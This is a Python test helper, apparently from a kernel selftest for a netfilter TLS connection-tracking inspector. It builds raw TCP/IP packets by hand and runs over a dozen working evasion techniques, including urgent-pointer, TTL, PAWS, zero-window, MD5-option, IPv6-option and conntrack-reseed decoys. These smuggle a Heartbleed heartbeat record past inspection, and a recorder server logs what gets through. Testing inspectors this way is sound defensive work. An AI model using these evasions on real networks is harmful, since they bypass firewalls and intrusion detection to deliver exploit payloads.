#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Classic TCP evasion against nf_conntrack_tls (tls_evasion.sh): a client
that builds every segment by hand, and the plain TCP server it attacks.

  evasion.py record DIR PORT...
      The server: accept on every PORT (IPv4 and IPv6) and append exactly
      what recv() returns to DIR/rec-CLIENTPORT (before taking it off the
      socket: an empty receive queue means all is written).  It never
      sends a byte and does not set SO_OOBINLINE, so (like any server) it
      does not see the byte an urgent pointer marks.  Connections from a
      client port ending in 9 are left unread for their first HOLD seconds
      (zerowin_decoy).  One "# recorder: ..." line per recv().

  evasion.py client
      The attacker: reads lines "TECHNIQUE DST DPORT SPORT" on stdin and runs
      TECHNIQUE on a new connection from SPORT, made over raw IP sockets
      (the caller drops the RSTs of the client's own kernel, which knows no
      such connection).  One process for all commands: starting Python
      costs seconds under QEMU TCG.  Output lines start with "# ";
      "# pause: WHAT" asks the caller to do WHAT and then write a line to
      stdin; "# end TECHNIQUE: SUMMARY" ends each command.

Each technique makes the server's stream (what its recv() returns) hold the
Heartbleed record HEARTBLEED at a record boundary, after a ClientHello (an
SSLv2-format one in sslv2_then_tls), while an inspector that believes every
segment it forwards reads a benign stream.  Techniques: urgent syn_data
syn_established ttl_decoy old_ack_decoy paws_decoy zerowin_decoy md5_decoy ipv6_dstopt_decoy ipv4_ts_decoy
sslv2_then_tls reseed_pickup after_kill (each function's comment says how),
and one benign flow that must pass whole: ts_wrap.

Standard library only (scapy takes ~15 s to import under TCG).  EVASION_WAIT
(seconds, default 1, times TIME_SCALE) is how long the client waits for an
acknowledgement before it resends a segment once, and then gives up.
"""
import os
import random
import select
import socket
import struct
import sys
import threading
import time

from tlsattack import csum, hirandom, hs, rec, seq_lt, v2_client_hello

WAIT = float(os.environ.get("EVASION_WAIT", "1")) * int(os.environ.get("TIME_SCALE", "1"))
HOLD = 4 * WAIT     # how long the recorder leaves some connections unread

FIN, SYN, RST, PSH, ACK, URG = 0x01, 0x02, 0x04, 0x08, 0x10, 0x20
MASK = 0xffffffff

# Heartbeat request, payload_length 16384 in a 3-byte body: Heartbleed.
HEARTBLEED = bytes.fromhex("1803020003014000")
# A benign record exactly as long: a 3-byte application data record, body
# "DCY" (tls_evasion.sh recognises it in the server's stream).  After the
# ClientHello, which offers TLS 1.3 and early data, application data is
# what the handshake layer (handshake=1) accepts from the client: 0-RTT
# data.  Every byte the client sends that the helper may inspect is valid
# at that layer, so a cut always comes from the rule the case is about.
DECOY = rec(23, b"DCY")
assert len(DECOY) == len(HEARTBLEED)


def log(msg):
    sys.stdout.write("# %s\n" % msg)
    sys.stdout.flush()


def client_hello():
    """A ClientHello record offering TLS 1.3 and 1.2 (supported_versions)
    and early data, padded (RFC 7685) to 256 bytes: long enough for
    reseed_pickup to start 100 bytes back inside it."""
    suites = struct.pack(">5H", 0x1301, 0xc02f, 0xc030, 0x009c, 0x002f)
    fixed = (struct.pack(">H", 0x0303) + os.urandom(32) + b"\x00" +
             struct.pack(">H", len(suites)) + suites + b"\x01\x00")
    exts = (struct.pack(">HHB2H", 43, 5, 4, 0x0304, 0x0303) +    # supported_versions
            struct.pack(">HH", 42, 0))                          # early_data
    pad = 256 - 5 - 4 - len(fixed) - 2 - len(exts) - 4
    exts += struct.pack(">HH", 21, pad) + bytes(pad)
    return rec(22, hs(1, fixed + struct.pack(">H", len(exts)) + exts), 0x0301)


CLIENT_HELLO = client_hello()


# ------------------------------------------------------------- packets

def tcp_segment(src, dst, sport, dport, seq, ack, flags, payload=b"",
                opts=b"", urg_ptr=0):
    """A TCP header (options opts, a multiple of 4 bytes) and payload, with
    the checksum over the IPv4 or IPv6 pseudo-header of src and dst."""
    hdr = struct.pack(">HHIIBBHHH", sport, dport, seq & MASK, ack & MASK,
                      (20 + len(opts)) // 4 << 4, flags, 65535, 0,
                      urg_ptr) + opts
    n = len(hdr) + len(payload)
    if len(src) == 4:
        pseudo = struct.pack(">4s4sBBH", src, dst, 0, 6, n)
    else:
        pseudo = struct.pack(">16s16sI3xB", src, dst, n, 6)
    c = csum(pseudo + hdr + payload)
    return hdr[:16] + struct.pack(">H", c) + hdr[18:] + payload


def ipv4_packet(src, dst, ttl, segment, opts=b""):
    """IPv4 header (DF, options opts) + segment; the kernel refills the
    total length and header checksum (IP_HDRINCL) but keeps the rest."""
    ihl = 5 + len(opts) // 4
    hdr = struct.pack(">BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(segment),
                      random.getrandbits(16) | 1, 0x4000, ttl, 6, 0,
                      src, dst) + opts
    return hdr[:10] + struct.pack(">H", csum(hdr)) + hdr[12:] + segment


def ipv6_packet(src, dst, hlim, segment, dst_opts=b""):
    """IPv6 header + an optional Destination Options header (dst_opts,
    whose next-header byte must say TCP) + segment."""
    body = dst_opts + segment
    return struct.pack(">IHBB16s16s", 6 << 28, len(body), 60 if dst_opts else 6,
                       hlim, src, dst) + body


class RawSockets:
    """The raw sockets of one family, shared by the flows: tx sends whole IP
    packets (IPPROTO_RAW means IP_HDRINCL, and IPV6_HDRINCL for IPv6), rx
    gets a copy of every TCP segment the client's host receives."""

    def __init__(self, fam):
        self.fam = fam
        self.tx = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.rx = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_TCP)

    def recv(self, timeout):
        """(source address, TCP segment) of the next packet, or None."""
        r, _, _ = select.select([self.rx], [], [], max(timeout, 0))
        if not r:
            return None
        data, addr = self.rx.recvfrom(65535)
        if self.fam == socket.AF_INET:
            return data[12:16], data[(data[0] & 15) * 4:]
        # IPv6 raw sockets get the segment alone, the source in addr
        return socket.inet_pton(socket.AF_INET6, addr[0].split("%")[0]), data


class Cut(Exception):
    """The connection could not be opened or was reset."""


class Flow:
    """One TCP connection whose every segment is built here: sequence
    numbers, flags, options, IP header fields and extension headers."""

    def __init__(self, raw, dst, dport, sport):
        self.raw = raw
        self.v6 = raw.fam == socket.AF_INET6
        self.dst_name = dst
        self.dst = socket.inet_pton(raw.fam, dst)
        probe = socket.socket(raw.fam, socket.SOCK_DGRAM)
        probe.connect((dst, dport))
        self.src = socket.inet_pton(raw.fam, probe.getsockname()[0])
        probe.close()
        self.sport, self.dport = sport, dport
        self.iss = random.getrandbits(32)
        self.snd_nxt = self.snd_una = self.iss
        self.rcv_nxt = None
        self.synack_ack = None
        self.reset = False
        self.ts = None          # with timestamps: the next TSval to send
        self.ts_ecr = 0         # the server's last TSval
        self.win = None         # the window of the server's last ACK

    def rel(self, seq):
        """seq as an offset from the ISN, for the log."""
        return (seq - self.iss) & MASK

    def send(self, flags, seq, payload=b"", note="", tcp_opts=b"", urg_ptr=0,
             ttl=64, ip_opts=b"", dst_opts=b"", ack_back=0, ts_back=0):
        """One segment, as given (its ACK ack_back below rcv_nxt, its
        TSval ts_back below the next one); nothing is waited for or
        remembered."""
        ack = self.rcv_nxt - ack_back if self.rcv_nxt is not None else 0
        if self.ts is not None:
            # NOP NOP TS first: other options follow, 4-byte aligned
            tcp_opts = b"\x01\x01\x08\x0a" + struct.pack(
                ">II", (self.ts - ts_back) & MASK, self.ts_ecr) + tcp_opts
            self.ts += 1
        seg = tcp_segment(self.src, self.dst, self.sport, self.dport, seq, ack,
                          flags, payload, tcp_opts, urg_ptr)
        if self.v6:
            pkt = ipv6_packet(self.src, self.dst, ttl, seg, dst_opts)
        else:
            pkt = ipv4_packet(self.src, self.dst, ttl, seg, ip_opts)
        self.raw.tx.sendto(pkt, (self.dst_name, 0))
        names = "".join(n for b, n in ((SYN, "S"), (FIN, "F"), (RST, "R"),
                                       (PSH, "P"), (ACK, "."), (URG, "U"))
                        if flags & b)
        log("client: sent [%s] seq ISN+%d, %d bytes%s" %
            (names, self.rel(seq), len(payload), ", " + note if note else ""))

    def handle(self, seg):
        """Track what the server acknowledged; the recorder sends no data."""
        sport, dport, seq, ack, off, flags = struct.unpack(">HHIIBB", seg[:14])
        if (sport, dport) != (self.dport, self.sport):
            return
        opts = seg[20:(off >> 4) * 4]
        at = opts.find(b"\x08\x0a")
        if self.ts is not None and at >= 0 and at + 10 <= len(opts):
            self.ts_ecr = struct.unpack(">I", opts[at + 2:at + 6])[0]
        if flags & RST:
            self.reset = True
        elif flags & SYN and flags & ACK and self.rcv_nxt is None:
            self.rcv_nxt = (seq + 1) & MASK
            self.synack_ack = ack
        if flags & ACK and not flags & RST and seq_lt(self.snd_una, ack):
            self.snd_una = ack
        if flags & ACK and not flags & (SYN | RST) and ack == self.snd_una:
            self.win = struct.unpack(">H", seg[14:16])[0]

    def wait(self, done, timeout):
        """Read the server's segments until done() or timeout; done()."""
        deadline = time.monotonic() + timeout
        while not done() and time.monotonic() < deadline:
            got = self.raw.recv(deadline - time.monotonic())
            if got and got[0] == self.dst and len(got[1]) >= 20:
                self.handle(got[1])
        return done()

    def acked(self, end):
        return not seq_lt(self.snd_una, end)

    def connect(self, syn_payload=b""):
        """SYN (with syn_payload on it), SYN-ACK, ACK; the SYN is resent
        twice at most, without the payload (as Linux resends a Fast Open
        SYN).  MSS option only (and timestamps once f.ts is set): no SACK
        or scaling."""
        mss = struct.pack(">BBH", 2, 4, 1460)
        for i in range(3):
            self.send(SYN, self.iss, b"" if i else syn_payload, tcp_opts=mss)
            if self.wait(lambda: self.rcv_nxt is not None or self.reset, WAIT):
                break
        if self.rcv_nxt is None:
            raise Cut("no SYN-ACK")
        log("client: SYN-ACK acknowledges ISN+%d" % self.rel(self.synack_ack))
        self.snd_nxt = (self.iss + 1) & MASK
        self.snd_una = self.synack_ack
        self.send(ACK, self.snd_nxt)

    def push(self, payload, seq=None, flags=PSH | ACK, tries=2, **hdr):
        """payload at seq (default: the next new byte) in one segment, sent
        up to tries times, WAIT apart, until acknowledged (tries 0: sent
        once, not waited for).  Returns whether it was acknowledged."""
        seq = self.snd_nxt if seq is None else seq
        end = (seq + len(payload)) & MASK
        if seq_lt(self.snd_nxt, end):
            self.snd_nxt = end
        for _ in range(max(tries, 1)):
            self.send(flags, seq, payload, **hdr)
            if not tries or self.wait(lambda: self.acked(end) or self.reset, WAIT):
                break
            hdr["note"] = "resent: not acknowledged"
        return self.acked(end)

    def pause(self, what):
        log("pause: %s" % what)
        sys.stdin.readline()

    def summary(self):
        return "the server acknowledged up to ISN+%d of ISN+%d%s" % (
            self.rel(self.snd_una), self.rel(self.snd_nxt),
            ", reset" if self.reset else "")


# ---------------------------------------------------------- techniques

def hello(f):
    """Connect and send the ClientHello; once it is acknowledged, the next
    byte is a record boundary of both streams."""
    f.connect()
    if not f.push(CLIENT_HELLO, tries=5, note="ClientHello"):
        raise Cut("ClientHello not acknowledged")


def urgent(f):
    """The server's recv() leaves out the byte the urgent pointer marks (no
    SO_OOBINLINE); an inspector that reads it as data frames the records
    otherwise.  Server's stream: a 4-byte application data record, then
    HEARTBLEED.  With the urgent byte 0x0d put in as the second length
    byte, the same bytes read as one 13-byte application data record."""
    hello(f)
    server_view = rec(23, hirandom(4)) + HEARTBLEED
    at = 4
    payload = server_view[:at] + bytes([len(server_view) + 1 - 5]) + server_view[at:]
    # Linux (tcp_stdurg 0) reads the pointer as RFC 793 did: it points just
    # past the urgent byte
    f.push(payload, flags=PSH | ACK | URG, urg_ptr=at + 1,
           note="URG, urgent byte 0x%02x at offset %d" % (payload[at], at))
    return f.summary()


def syn_data(f):
    """SYN data that a server without a Fast Open cookie discards: its
    SYN-ACK acknowledges ISN+1 only.  On the SYN: ClientHello + DECOY; after
    the handshake, at the same sequence numbers: ClientHello + HEARTBLEED,
    which the server takes as new bytes.  (With handshake=1 the helper
    drops the SYN with data, drop_fastopen; the client's next SYN carries
    none, as a Fast Open client's retransmission does.)"""
    f.connect(syn_payload=CLIENT_HELLO + DECOY)
    if f.rel(f.synack_ack) != 1:
        log("client: the server accepted the SYN data: the attack cannot work")
    f.push(CLIENT_HELLO + HEARTBLEED, note="ClientHello + heartbeat at ISN+1")
    return f.summary()


def syn_established(f):
    """A SYN on an established connection, seq one before the next byte and
    DECOY on it: the server answers with a challenge ACK and drops it
    (RFC 5961), conntrack ignores it but lets it through; then HEARTBLEED
    at the same sequence numbers."""
    hello(f)
    seq = f.snd_nxt
    f.send(SYN, seq - 1, DECOY, note="SYN on the established flow, decoy on it")
    time.sleep(0.1)
    f.push(HEARTBLEED, seq=seq, note="heartbeat")
    return f.summary()


def decoy_then_heartbleed(f, why, **hdr):
    """DECOY in a segment the server discards (hdr says why), then
    HEARTBLEED at the same sequence numbers in a normal segment."""
    hello(f)
    f.send(PSH | ACK, f.snd_nxt, DECOY, note="decoy, " + why, **hdr)
    time.sleep(0.1)
    f.push(HEARTBLEED, note="heartbeat, same sequence numbers")
    return f.summary()


def ttl_decoy(f):
    """TTL (hop limit) 2: the router forwards the decoy with 1 left, the hop
    after it drops it (time exceeded) before the server."""
    return decoy_then_heartbleed(f, "TTL 2", ttl=2)


def old_ack_decoy(f):
    """An ACK one below one the client already sent: the server has sent
    no data (bytes_acked 0), so its RFC 5961 limit is snd_una itself and
    it drops the segment (TCP_TOO_OLD_ACK); conntrack accepts ACKs up to
    66000 back."""
    return decoy_then_heartbleed(f, "ACK one below the last", ack_back=1)


def paws_decoy(f):
    """Timestamps on (the SYN offers them, the server answers): a TSval
    1000 below the last one sent, which PAWS makes the server drop
    (tcp_paws_discard())."""
    f.ts = random.getrandbits(32)
    return decoy_then_heartbleed(f, "TSval 1000 below the last", ts_back=1000)


def ts_wrap(f):
    """Benign: timestamps that cross 2^32 (TSvals from 2^32 - 3 on), the
    ClientHello, then four application data records (early data) in a
    segment each, all acknowledged: PAWS compares modulo 2^32, the helper
    must too."""
    f.ts = MASK - 2
    hello(f)
    for _ in range(4):
        if not f.push(rec(23, hirandom(32)), tries=5, note="application data"):
            raise Cut("application data not acknowledged")
    return f.summary()


def zerowin_decoy(f):
    """The server's application does not read for its first seconds (the
    recorder holds connections from client ports ending in 9 that long):
    application data records (early data, high-bit bytes: no low-byte
    run) fill its receive window until it announces zero, and the server
    drops the decoy sent then (TCPZeroWindowDrop); once it reads and the
    window opens, HEARTBLEED at the same sequence numbers (which the
    helper, reading it after early data, judges a TLS 1.3 heartbeat)."""
    hello(f)
    filler = rec(23, hirandom(1400 - 5))
    for _ in range(400):
        if f.win == 0:
            break
        if not f.push(filler, tries=1, note="filler"):
            f.wait(lambda: f.win == 0, WAIT)
    if f.win != 0:
        raise Cut("the window did not close")
    log("client: zero window at ISN+%d" % f.rel(f.snd_una))
    f.send(PSH | ACK, f.snd_nxt, DECOY, note="decoy, zero window")
    f.wait(lambda: f.win, 10 * WAIT)
    f.push(HEARTBLEED, note="heartbeat, same sequence numbers, window open")
    return f.summary()


def md5_decoy(f):
    """A TCP MD5 signature option (kind 19, length 18, any digest): a Linux
    server holding no MD5 key for the peer drops the segment
    (TCPMD5Unexpected)."""
    md5 = b"\x01\x01" + struct.pack(">BB", 19, 18) + os.urandom(16)
    return decoy_then_heartbleed(f, "TCP MD5 option", tcp_opts=md5)


def ipv6_dstopt_decoy(f):
    """A Destination Options header with option type 0x7e (RFC 4727
    experiment; the high bits 01 say: unknown, discard silently).  Routers
    do not read destination options; the server drops the packet."""
    dstopt = bytes([6, 0, 0x7e, 4, 0, 0, 0, 0])
    return decoy_then_heartbleed(f, "Destination Options type 0x7e", dst_opts=dstopt)


def ipv4_ts_decoy(f):
    """A full IPv4 timestamp option (pointer past its end) whose overflow
    counter is 14: the router accepts it and counts itself (15), the next
    host refuses an overflow of 15 (ip_options_compile(): parameter
    problem, dropped): here the hop, without it the server."""
    ts = struct.pack(">BBBB", 68, 4, 5, 14 << 4)
    return decoy_then_heartbleed(f, "IPv4 timestamp option, overflow 14", ip_opts=ts)


def sslv2_then_tls(f):
    """An SSLv2-format compatibility CLIENT-HELLO (version 3.1), and at once,
    before the server has answered (this one never does), a TLS record:
    HEARTBLEED.  An inspector that keeps SSLv2 framing reads a 3-byte-header
    SSLv2 record (length 0x1803) instead."""
    f.connect()
    f.push(v2_client_hello(0x0301), tries=0, note="SSLv2 CLIENT-HELLO 0x0301")
    f.push(HEARTBLEED, note="heartbeat")
    return f.summary()


def reseed_pickup(f):
    """After the router lost the flow's conntrack entry: a pure ACK (a
    pickup entry), then a SYN whose ISN+1 lies 100 bytes before the
    server's rcv_nxt (challenge ACK, dropped), then 108 bytes from ISN+1:
    from there one 103-byte application data record (a helper re-seeded
    by the SYN would read it as a benign first record); the server drops
    the first 100 bytes as old and reads the last 8, HEARTBLEED, right
    after the ClientHello."""
    hello(f)
    f.pause("delete the conntrack entry of this flow")
    f.send(ACK, f.snd_nxt, note="pure ACK: conntrack picks the flow up")
    time.sleep(0.1)
    back = 100
    isn = (f.snd_nxt - back - 1) & MASK
    f.send(SYN, isn, note="SYN, ISN+1 %d bytes before the server's next byte" % back)
    time.sleep(0.1)
    stream = rec(23, hirandom(back - 5) + HEARTBLEED)
    f.push(stream, seq=isn + 1, note="%d bytes from the new ISN+1" % len(stream))
    return f.summary()


def after_kill(f):
    """The heartbeat, then everything a client can try on the flow after it
    was killed: new bytes beyond it, the heartbeat again with FIN (no
    conntrack entry would accept a FIN first: INVALID, seen by no helper),
    a pure ACK, the heartbeat again."""
    hello(f)
    f.pause("count what reaches the server from now on")
    at = f.snd_nxt
    f.push(HEARTBLEED, tries=1, note="heartbeat")
    tail = rec(21, b"\x01\x00")             # close_notify alert
    f.send(PSH | ACK, at + len(HEARTBLEED), tail, note="new bytes")
    f.send(FIN | PSH | ACK, at, HEARTBLEED + tail, note="retransmission with FIN")
    f.send(ACK, at, note="pure ACK")
    f.push(HEARTBLEED + tail, seq=at, tries=1, note="retransmission")
    return f.summary()


TECHNIQUES = {t.__name__: t for t in (
    urgent, syn_data, syn_established, ttl_decoy, old_ack_decoy, paws_decoy,
    ts_wrap, zerowin_decoy, md5_decoy,
    ipv6_dstopt_decoy, ipv4_ts_decoy, sslv2_then_tls, reseed_pickup,
    after_kill)}


def client():
    sockets = {}
    for line in sys.stdin:
        words = line.split()
        if len(words) != 4 or words[0] not in TECHNIQUES:
            log("end ?: bad command %r" % line.strip())
            continue
        name, dst, dport, sport = words[0], words[1], int(words[2]), int(words[3])
        fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
        if fam not in sockets:
            sockets[fam] = RawSockets(fam)
        try:
            summary = TECHNIQUES[name](Flow(sockets[fam], dst, dport, sport))
        except Cut as e:
            summary = "cut: %s" % e
        except (OSError, ValueError) as e:
            summary = "error: %s" % e
        log("end %s: %s" % (name, summary))


# -------------------------------------------------------------- recorder

def record_one(conn, peer, path):
    """Peek, write, then take the bytes off the socket: once its receive
    queue is empty, everything is in the file (tls_evasion.sh waits for
    that).  The taking recv() returns what the peek did; checked."""
    n = 0
    name = "[%s]:%d" % peer
    if peer[1] % 10 == 9:
        time.sleep(HOLD)    # zerowin_decoy: the window fills up and closes
    with open(path, "ab") as out:
        while True:
            try:
                data = conn.recv(65536, socket.MSG_PEEK)
                if data:
                    out.write(data)
                    out.flush()
                    if conn.recv(len(data)) != data:
                        log("recorder: %s recv() differs from its peek" % name)
            except OSError as e:
                log("recorder: %s %s after %d bytes" % (name, e, n))
                break
            if not data:
                conn.recv(1)        # take the FIN off too (the peek did not)
                log("recorder: %s EOF after %d bytes" % (name, n))
                break
            n += len(data)
            log("recorder: %s recv() %d bytes: %s" % (name, len(data), data[:24].hex()))
    conn.close()


def record(directory, ports):
    listeners = []
    for port in ports:
        ls = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        ls.bind(("::", port))
        ls.listen(64)
        listeners.append(ls)
    while True:
        r, _, _ = select.select(listeners, [], [])
        for ls in r:
            conn, addr = ls.accept()
            peer = (addr[0].replace("::ffff:", ""), addr[1])
            path = os.path.join(directory, "rec-%d" % peer[1])
            threading.Thread(target=record_one, args=(conn, peer, path),
                             daemon=True).start()


def main(argv):
    if len(argv) >= 4 and argv[1] == "record":
        record(argv[2], [int(p) for p in argv[3:]])
    elif len(argv) == 2 and argv[1] == "client":
        client()
    else:
        sys.stderr.write(__doc__)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
